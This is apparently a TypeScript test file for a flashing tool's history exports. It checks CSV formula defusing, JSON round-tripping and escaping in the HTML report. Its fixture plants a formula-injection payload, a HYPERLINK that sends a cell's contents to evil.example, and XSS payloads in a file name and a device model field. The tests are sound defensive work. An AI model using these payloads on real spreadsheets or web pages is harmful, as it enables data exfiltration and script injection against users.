// History exports (src-main/history/history-export.ts): CSV per RFC 4180 with formulas defused,
// JSON as the records, and a one-job HTML report in which no value can become markup or script.
import { describe, expect, it } from 'vitest';
import type { HistoryRecord } from '../../shared/history.ts';
import { csvCell, historyRecordToHtml, historyToCsv, historyToJson } from '../../src-main/history/history-export.ts';

const hostileName = '=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"\r\nnext line <script>alert(1)</script>';

const record: HistoryRecord = {
  id: 'job-1',
  kind: 'flash',
  image: { path: `/home/me/${hostileName}.iso`, url: null, sizeBytes: 1_048_576, sha256: 'ab'.repeat(32) },
  targets: [
    {
      device: '/dev/sdb',
      model: '+Cruzer "Blade"',
      serial: '@SN,1',
      sizeBytes: 8_000_000_000,
      busPath: 'pci-0000:00:14.0-usb-0:2:1.0',
      outcome: 'succeeded',
      error: null,
    },
    {
      device: '/dev/sdc',
      model: '-Evil <img src=x onerror=alert(2)>',
      serial: null,
      sizeBytes: null,
      busPath: null,
      outcome: 'failed',
      error: { code: 'write-failed', message: "EIO at byte 4096 & 'more'" },
    },
  ],
  mode: 'raw',
  startedMs: Date.UTC(2026, 11, 5, 8, 0, 0),
  endedMs: Date.UTC(2026, 11, 5, 8, 1, 30),
  writeBytesPerSecond: 31_000_000,
  verifyBytesPerSecond: null,
  verify: 'passed',
  outcome: 'partial',
  error: { code: 'write-failed', message: "EIO at byte 4096 & 'more'" },
};

/** A minimal RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted && character === '"' && text[index + 1] === '"') {
      field += '"';
      index += 1;
    } else if (quoted && character === '"') {
      quoted = false;
    } else if (quoted || (character !== '"' && character !== ',' && character !== '\r')) {
      field += character;
    } else if (character === '"') {
      quoted = true;
    } else if (character === ',') {
      row.push(field);
      field = '';
    } else if (text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else {
      field += character;
    }
  }
  return rows;
}

describe('history exports', () => {
  it('writes CSV with a header row, one row per target, RFC 4180 quoting and CRLF line ends', () => {
    const csv = historyToCsv([record]);
    const rows = parseCsv(csv);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(rows).toHaveLength(3);
    const header = rows[0] ?? [];
    expect(header.slice(0, 4)).toEqual(['id', 'kind', 'outcome', 'started_utc']);
    const column = (name: string, row: number) => rows[row]?.[header.indexOf(name)];
    expect(column('started_utc', 1)).toBe('2026-12-05 08:00:00.000');
    expect(column('image_size_bytes', 1)).toBe('1048576');
    expect(column('image_path', 1)).toBe(`/home/me/${hostileName}.iso`);
    expect(column('target_device', 2)).toBe('/dev/sdc');
    expect(column('target_error_message', 2)).toBe("EIO at byte 4096 & 'more'");
    expect(column('verify_bytes_per_second', 1)).toBe('');
  });

  it("defuses cells a spreadsheet would run as formulas (= + - @, tab, carriage return) with a leading '", () => {
    const rows = parseCsv(historyToCsv([record]));
    const header = rows[0] ?? [];
    expect(rows[1]?.[header.indexOf('target_model')]).toBe(`'+Cruzer "Blade"`);
    expect(rows[1]?.[header.indexOf('target_serial')]).toBe("'@SN,1");
    expect(rows[2]?.[header.indexOf('target_model')]).toBe("'-Evil <img src=x onerror=alert(2)>");
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(-5)).toBe('-5');
    // No cell of the file starts with a formula character, however it is quoted.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes JSON as the array of records, unchanged', () => {
    expect(JSON.parse(historyToJson([record]))).toEqual([record]);
    expect(JSON.parse(historyToJson([]))).toEqual([]);
  });

  it('writes one job as a self-contained HTML page: every value escaped, no script, a CSP that forbids fetching anything', () => {
    const html = historyRecordToHtml(record, Date.UTC(2026, 11, 5, 9, 0, 0));
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<[a-z][^>]*\s(src|href)=/i);
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(html).toContain('&#60;img src=x onerror=alert(2)&#62;');
    expect(html).toContain('EIO at byte 4096 &#38; &#39;more&#39;');
    expect(html).toContain('pci-0000:00:14.0-usb-0:2:1.0');
    expect(html).toContain('ab'.repeat(32));
    expect(html).toContain('@media print');
  });
});
